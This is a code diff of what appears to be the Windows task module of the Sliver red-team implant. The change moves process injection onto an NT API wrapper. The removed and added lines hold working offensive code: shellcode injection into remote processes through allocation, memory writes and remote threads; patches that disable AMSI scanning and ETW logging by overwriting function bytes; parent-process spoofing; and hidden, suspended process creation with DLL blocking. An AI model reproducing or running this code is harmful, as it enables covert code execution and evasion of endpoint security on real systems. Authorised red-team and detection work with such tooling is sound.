@@ -25,14 +25,13 @@ import (
 	// {{if .Config.Debug}}
 	"log"
 	// {{else}}{{end}}
-	"os/exec"
 	"runtime"
 	"strings"
 	"time"
 	"unsafe"
 
+	"github.com/bishopfox/sliver/implant/sliver/ntapi"
 	"github.com/bishopfox/sliver/implant/sliver/spoof"
-	"syscall"
 	// {{if .Config.Evasion}}
 	"github.com/bishopfox/sliver/implant/sliver/evasion"
 	"github.com/bishopfox/sliver/implant/sliver/version"
@@ -55,90 +54,21 @@ func sysAlloc(size int, rwxPages bool) (uintptr, error) {
 		perms = windows.PAGE_READWRITE
 	}
 	n := uintptr(size)
-	addr, err := windows.VirtualAlloc(uintptr(0), n, windows.MEM_RESERVE|windows.MEM_COMMIT, uint32(perms))
+	addr, err := ntapi.VirtualAlloc(windows.CurrentProcess(), n, uint32(perms))
 	if addr == 0 {
 		return 0, err
 	}
 	return addr, nil
 }
 
-// injectTask - Injects shellcode into a process handle
-func injectTask(processHandle windows.Handle, data []byte, rwxPages bool) (windows.Handle, error) {
-	var (
-		err          error
-		remoteAddr   uintptr
-		threadHandle windows.Handle
-	)
-	dataSize := len(data)
-	// Remotely allocate memory in the target process
-	// {{if .Config.Debug}}
-	log.Println("allocating remote process memory ...")
-	// {{end}}
-	if rwxPages {
-		remoteAddr, err = syscalls.VirtualAllocEx(processHandle, uintptr(0), uintptr(uint32(dataSize)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_EXECUTE_READWRITE)
-	} else {
-		remoteAddr, err = syscalls.VirtualAllocEx(processHandle, uintptr(0), uintptr(uint32(dataSize)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
-	}
-	// {{if .Config.Debug}}
-	log.Printf("virtualallocex returned: remoteAddr = %v, err = %v", remoteAddr, err)
-	// {{end}}
-	if err != nil {
-		// {{if .Config.Debug}}
-		log.Println("[!] failed to allocate remote process memory")
-		// {{end}}
-		return threadHandle, err
-	}
-
-	// Write the shellcode into the remotely allocated buffer
-	var nLength uintptr
-	err = syscalls.WriteProcessMemory(processHandle, remoteAddr, &data[0], uintptr(uint32(dataSize)), &nLength)
-	// {{if .Config.Debug}}
-	log.Printf("writeprocessmemory returned: err = %v", err)
-	// {{end}}
-	if err != nil {
-		// {{if .Config.Debug}}
-		log.Printf("[!] failed to write data into remote process")
-		// {{end}}
-		return threadHandle, err
-	}
-	if !rwxPages {
-		var oldProtect uint32
-		// Set proper page permissions
-		err = syscalls.VirtualProtectEx(processHandle, remoteAddr, uintptr(uint(dataSize)), windows.PAGE_EXECUTE_READ, &oldProtect)
-		if err != nil {
-			//{{if .Config.Debug}}
-			log.Println("VirtualProtectEx failed:", err)
-			//{{end}}
-			return threadHandle, err
-		}
-	}
-	// Create the remote thread to where we wrote the shellcode
-	// {{if .Config.Debug}}
-	log.Println("successfully injected data, starting remote thread ....")
-	// {{end}}
-	attr := new(windows.SecurityAttributes)
-	var lpThreadId uint32
-	threadHandle, err = syscalls.CreateRemoteThread(processHandle, attr, uint32(0), remoteAddr, 0, 0, &lpThreadId)
-	// {{if .Config.Debug}}
-	log.Printf("createremotethread returned:  err = %v", err)
-	// {{end}}
-	if err != nil {
-		// {{if .Config.Debug}}
-		log.Printf("[!] failed to create remote thread")
-		// {{end}}
-		return threadHandle, err
-	}
-	return threadHandle, nil
-}
-
 // RermoteTask - Injects Task into a processID using remote threads
-func RemoteTask(processID int, data []byte, rwxPages bool) error {
+func RemoteTask(processID int, data []byte, rwxPages bool, injection Injection) error {
 	var lpTargetHandle windows.Handle
 	err := refresh()
 	if err != nil {
 		return err
 	}
-	processHandle, err := windows.OpenProcess(syscalls.PROCESS_DUP_HANDLE, false, uint32(processID))
+	processHandle, err := ntapi.OpenProcess(syscalls.PROCESS_DUP_HANDLE, false, uint32(processID))
 	if processHandle == 0 {
 		return err
 	}
@@ -156,10 +86,11 @@ func RemoteTask(processID int, data []byte, rwxPages bool) error {
 		// {{end}}
 		return err
 	}
-	_, err = injectTask(lpTargetHandle, data, rwxPages)
+	threadHandle, err := injectRemote(lpTargetHandle, uint32(processID), data, 0, nil, rwxPages, false, injection)
 	if err != nil {
 		return err
 	}
+	windows.CloseHandle(threadHandle)
 	return nil
 }
 
@@ -179,7 +110,7 @@ func LocalTask(data []byte, rwxPages bool) error {
 	}
 	if !rwxPages {
 		var oldProtect uint32
-		err = windows.VirtualProtect(addr, uintptr(size), windows.PAGE_EXECUTE_READ, &oldProtect)
+		err = ntapi.VirtualProtect(windows.CurrentProcess(), addr, uintptr(size), windows.PAGE_EXECUTE_READ, &oldProtect)
 		if err != nil {
 			//{{if .Config.Debug}}
 			log.Println("VirtualProtect failed:", err)
@@ -190,8 +121,7 @@ func LocalTask(data []byte, rwxPages bool) error {
 	// {{if .Config.Debug}}
 	log.Printf("creating local thread with start address: 0x%08x", addr)
 	// {{end}}
-	var lpThreadId uint32
-	_, err = syscalls.CreateThread(nil, 0, addr, uintptr(0), 0, &lpThreadId)
+	_, err = ntapi.CreateThread(windows.CurrentProcess(), addr, uintptr(0), false)
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Printf("CreateThread failed: %v\n", err)
@@ -200,102 +130,20 @@ func LocalTask(data []byte, rwxPages bool) error {
 	return err
 }
 
-func patchAmsi() error {
-	// load amsi.dll
-	amsiDLL := windows.NewLazyDLL("amsi.dll")
-	amsiScanBuffer := amsiDLL.NewProc("AmsiScanBuffer")
-	amsiInitialize := amsiDLL.NewProc("AmsiInitialize")
-	amsiScanString := amsiDLL.NewProc("AmsiScanString")
-
-	// patch
-	amsiAddr := []uintptr{
-		amsiScanBuffer.Addr(),
-		amsiInitialize.Addr(),
-		amsiScanString.Addr(),
-	}
-	patch := byte(0xC3)
-	for _, addr := range amsiAddr {
-		// skip if already patched
-		if *(*byte)(unsafe.Pointer(addr)) != patch {
-			// {{if .Config.Debug}}
-			log.Println("Patching AMSI")
-			// {{end}}
-			var oldProtect uint32
-			err := windows.VirtualProtect(addr, 1, windows.PAGE_READWRITE, &oldProtect)
-			if err != nil {
-				//{{if .Config.Debug}}
-				log.Println("VirtualProtect failed:", err)
-				//{{end}}
-				return err
-			}
-			*(*byte)(unsafe.Pointer(addr)) = 0xC3
-			err = windows.VirtualProtect(addr, 1, oldProtect, &oldProtect)
-			if err != nil {
-				//{{if .Config.Debug}}
-				log.Println("VirtualProtect (restauring) failed:", err)
-				//{{end}}
-				return err
-			}
-		}
-	}
-	return nil
-}
-
-func patchEtw() error {
-	ntdll := windows.NewLazyDLL("ntdll.dll")
-	etwEventWriteProc := ntdll.NewProc("EtwEventWrite")
-
-	// patch
-	patch := byte(0xC3)
-	// skip if already patched
-	if *(*byte)(unsafe.Pointer(etwEventWriteProc.Addr())) != patch {
-		// {{if .Config.Debug}}
-		log.Println("Patching ETW")
-		// {{end}}
-		var oldProtect uint32
-		err := windows.VirtualProtect(etwEventWriteProc.Addr(), 1, windows.PAGE_READWRITE, &oldProtect)
-		if err != nil {
-			//{{if .Config.Debug}}
-			log.Println("VirtualProtect failed:", err)
-			//{{end}}
-			return err
-		}
-		*(*byte)(unsafe.Pointer(etwEventWriteProc.Addr())) = 0xC3
-		err = windows.VirtualProtect(etwEventWriteProc.Addr(), 1, oldProtect, &oldProtect)
-		if err != nil {
-			//{{if .Config.Debug}}
-			log.Println("VirtualProtect (restauring) failed:", err)
-			//{{end}}
-			return err
-		}
-	}
-	return nil
-}
-
-func InProcExecuteAssembly(assemblyBytes []byte, assemblyArgs []string, runtime string, amsiBypass bool, etwBypass bool) (string, error) {
-	if amsiBypass {
-		err := patchAmsi()
-		if err != nil {
-			return "", err
-		}
-	}
-
-	if etwBypass {
-		err := patchEtw()
-		if err != nil {
-			return "", err
-		}
+func InProcExecuteAssembly(assemblyBytes []byte, assemblyArgs []string, runtime string, bypass Bypass) (string, error) {
+	err := BypassLocal(bypass)
+	if err != nil {
+		return "", err
 	}
-
 	return LoadAssembly(assemblyBytes, assemblyArgs, runtime)
 }
 
-func ExecuteAssembly(data []byte, process string, processArgs []string, ppid uint32) (string, error) {
+func ExecuteAssembly(data []byte, process string, processArgs []string, ppid uint32, blockDLLs bool, injection Injection, bypass Bypass) (string, error) {
 	var (
 		stdoutBuf, stderrBuf bytes.Buffer
 		lpTargetHandle       windows.Handle
 	)
-	cmd, err := startProcess(process, processArgs, ppid, &stdoutBuf, &stderrBuf, true)
+	cmd, err := startProcess(process, processArgs, ppid, blockDLLs, &stdoutBuf, &stderrBuf, true)
 	if err != nil {
 		//{{if .Config.Debug}}
 		log.Println("Could not start process:", process)
@@ -306,7 +154,7 @@ func ExecuteAssembly(data []byte, process string, processArgs []string, ppid uin
 	// {{if .Config.Debug}}
 	log.Printf("[*] %s started, pid = %d\n", process, pid)
 	// {{end}}
-	handle, err := windows.OpenProcess(syscalls.PROCESS_DUP_HANDLE, true, uint32(pid))
+	handle, err := ntapi.OpenProcess(syscalls.PROCESS_DUP_HANDLE, true, uint32(pid))
 	if err != nil {
 		return "", err
 	}
@@ -326,7 +174,12 @@ func ExecuteAssembly(data []byte, process string, processArgs []string, ppid uin
 		// {{end}}
 		return "", err
 	}
-	threadHandle, err := injectTask(lpTargetHandle, data, false)
+	err = bypassRemote(lpTargetHandle, bypass)
+	if err != nil {
+		cmd.Process.Kill()
+		return "", err
+	}
+	threadHandle, err := injectRemote(lpTargetHandle, uint32(pid), data, 0, nil, false, true, injection)
 	if err != nil {
 		return "", err
 	}
@@ -343,7 +196,7 @@ func ExecuteAssembly(data []byte, process string, processArgs []string, ppid uin
 	return stdoutBuf.String() + stderrBuf.String(), nil
 }
 
-func SpawnDll(procName string, processArgs []string, ppid uint32, data []byte, offset uint32, args string, kill bool) (string, error) {
+func SpawnDll(procName string, processArgs []string, ppid uint32, data []byte, offset uint32, args string, kill bool, injection Injection) (string, error) {
 	var lpTargetHandle windows.Handle
 	err := refresh()
 	if err != nil {
@@ -352,7 +205,7 @@ func SpawnDll(procName string, processArgs []string, ppid uint32, data []byte, o
 	var stdoutBuff bytes.Buffer
 	var stderrBuff bytes.Buffer
 	// 1 - Start process
-	cmd, err := startProcess(procName, processArgs, ppid, &stdoutBuff, &stderrBuff, true)
+	cmd, err := startProcess(procName, processArgs, ppid, false, &stdoutBuff, &stderrBuff, true)
 	if err != nil {
 		return "", err
 	}
@@ -360,7 +213,7 @@ func SpawnDll(procName string, processArgs []string, ppid uint32, data []byte, o
 	// {{if .Config.Debug}}
 	log.Printf("[*] %s started, pid = %d\n", procName, pid)
 	// {{end}}
-	handle, err := windows.OpenProcess(syscalls.PROCESS_DUP_HANDLE, true, uint32(pid))
+	handle, err := ntapi.OpenProcess(syscalls.PROCESS_DUP_HANDLE, true, uint32(pid))
 	if err != nil {
 		return "", err
 	}
@@ -380,23 +233,10 @@ func SpawnDll(procName string, processArgs []string, ppid uint32, data []byte, o
 	}
 	defer windows.CloseHandle(handle)
 	defer windows.CloseHandle(lpTargetHandle)
-	dataAddr, err := allocAndWrite(data, lpTargetHandle, uint32(len(data)))
-	argAddr := uintptr(0)
-	if len(args) > 0 {
-		//{{if .Config.Debug}}
-		log.Printf("Args: %s\n", args)
-		//{{end}}
-		argsArray := []byte(args)
-		argAddr, err = allocAndWrite(argsArray, lpTargetHandle, uint32(len(argsArray)))
-		if err != nil {
-			return "", err
-		}
-	}
 	//{{if .Config.Debug}}
-	log.Printf("[*] Args addr: 0x%08x\n", argAddr)
+	log.Printf("Args: %s\n", args)
 	//{{end}}
-	startAddr := uintptr(dataAddr) + uintptr(offset)
-	threadHandle, err := protectAndExec(lpTargetHandle, dataAddr, startAddr, argAddr, uint32(len(data)))
+	threadHandle, err := injectRemote(lpTargetHandle, uint32(pid), data, offset, []byte(args), false, true, injection)
 	if err != nil {
 		return "", err
 	}
@@ -419,8 +259,8 @@ func SpawnDll(procName string, processArgs []string, ppid uint32, data []byte, o
 }
 
 // SideLoad - Side load a binary as shellcode and returns its output
-func Sideload(procName string, procArgs []string, ppid uint32, data []byte, args string, kill bool) (string, error) {
-	return SpawnDll(procName, procArgs, ppid, data, 0, "", kill)
+func Sideload(procName string, procArgs []string, ppid uint32, data []byte, args string, kill bool, injection Injection) (string, error) {
+	return SpawnDll(procName, procArgs, ppid, data, 0, "", kill, injection)
 }
 
 // Util functions
@@ -449,30 +289,16 @@ func refresh() error {
 	return nil
 }
 
-func startProcess(proc string, args []string, ppid uint32, stdout *bytes.Buffer, stderr *bytes.Buffer, suspended bool) (*exec.Cmd, error) {
-	var cmd *exec.Cmd
-	if len(args) > 0 {
-		cmd = exec.Command(proc, args...)
-	} else {
-		cmd = exec.Command(proc)
-	}
-	cmd.SysProcAttr = &windows.SysProcAttr{
-		Token:      syscall.Token(CurrentToken),
-		HideWindow: true,
-	}
-	err := spoof.SpoofParent(ppid, cmd)
-	if err != nil {
-		// We couldn't spoof the parent, fail open and continue
-		//{{if .Config.Debug}}
-		log.Printf("could not spoof parent PID: %v\n", err)
-		//{{end}}
-	}
+func startProcess(proc string, args []string, ppid uint32, blockDLLs bool, stdout *bytes.Buffer, stderr *bytes.Buffer, suspended bool) (*spoof.Cmd, error) {
+	cmd := spoof.Command(proc, args...)
+	cmd.Token = CurrentToken
+	cmd.HideWindow = true
+	cmd.PPid = ppid
+	cmd.BlockDLLs = blockDLLs
+	cmd.Suspended = suspended
 	cmd.Stdout = stdout
 	cmd.Stderr = stderr
-	if suspended {
-		cmd.SysProcAttr.CreationFlags = windows.CREATE_SUSPENDED
-	}
-	err = cmd.Start()
+	err := cmd.Start()
 	if err != nil {
 		//{{if .Config.Debug}}
 		log.Println("Could not start process:", proc)
@@ -506,35 +332,13 @@ func waitForCompletion(threadHandle windows.Handle) error {
 }
 
 func allocAndWrite(data []byte, handle windows.Handle, size uint32) (dataAddr uintptr, err error) {
-	// VirtualAllocEx to allocate a new memory segment into the target process
-	dataAddr, err = syscalls.VirtualAllocEx(handle, uintptr(0), uintptr(size), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	// Allocate a new memory segment into the target process
+	dataAddr, err = ntapi.VirtualAlloc(handle, uintptr(size), windows.PAGE_READWRITE)
 	if err != nil {
 		return
 	}
-	// WriteProcessMemory to write the reflective loader into the process
-	var nLength uintptr
-	err = syscalls.WriteProcessMemory(handle, dataAddr, &data[0], uintptr(uint32(len(data))), &nLength)
-	if err != nil {
-		return
-	}
-	return
-}
-
-func protectAndExec(handle windows.Handle, startAddr uintptr, threadStartAddr uintptr, argAddr uintptr, dataLen uint32) (threadHandle windows.Handle, err error) {
-	var oldProtect uint32
-	err = syscalls.VirtualProtectEx(handle, startAddr, uintptr(dataLen), windows.PAGE_EXECUTE_READ, &oldProtect)
-	if err != nil {
-		//{{if .Config.Debug}}
-		log.Println("VirtualProtectEx failed:", err)
-		//{{end}}
-		return
-	}
-	attr := new(windows.SecurityAttributes)
-	var lpThreadId uint32
-	//{{if .Config.Debug}}
-	log.Printf("Starting thread at 0x%08x\n", startAddr)
-	//{{end}}
-	threadHandle, err = syscalls.CreateRemoteThread(handle, attr, 0, threadStartAddr, argAddr, 0, &lpThreadId)
+	// Write the reflective loader into the process
+	err = ntapi.WriteMemory(handle, dataAddr, data)
 	if err != nil {
 		return
 	}